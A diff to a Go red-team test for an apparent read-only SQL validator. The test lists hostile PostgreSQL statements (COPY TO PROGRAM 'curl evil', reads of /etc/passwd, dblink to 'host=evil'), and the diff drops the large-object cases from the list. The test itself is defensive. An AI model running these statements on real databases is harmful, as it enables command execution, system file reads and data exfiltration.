@@ -285,7 +285,7 @@ func TestRedteam07_ATableAnywhere(t *testing.T) {
 }
 
 // TestRedteam08_WayOutOfTheDatabase: files, programs, other servers, other
-// sessions, large objects, locks and sleeping are never a read.
+// sessions, locks and sleeping are never a read.
 func TestRedteam08_WayOutOfTheDatabase(t *testing.T) {
 	for _, sql := range []string{
 		"COPY t TO PROGRAM 'curl evil'",
@@ -293,15 +293,9 @@ func TestRedteam08_WayOutOfTheDatabase(t *testing.T) {
 		"COPY (SELECT 1) TO PROGRAM 'curl evil'",
 		"COPY t TO '/tmp/x'",
 		"COPY t FROM '/etc/passwd'",
-		"COPY (SELECT lo_get(1)) TO STDOUT",
 		"COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
 		"SELECT lo_import('/etc/passwd')",
 		"SELECT lo_export(1, '/tmp/x')",
-		"SELECT lo_get(1)",
-		"SELECT lo_put(1, 0, 'x')",
-		"SELECT lo_from_bytea(0, 'x')",
-		"SELECT loread(0, 10), lowrite(0, 'x')",
-		"SELECT lo_unlink(1)",
 		"SELECT * FROM dblink('host=evil', 'select 1') AS x(a int)",
 		"SELECT public.dblink_exec('host=evil', 'select 1')",
 		"SELECT pg_read_file('/etc/passwd')",
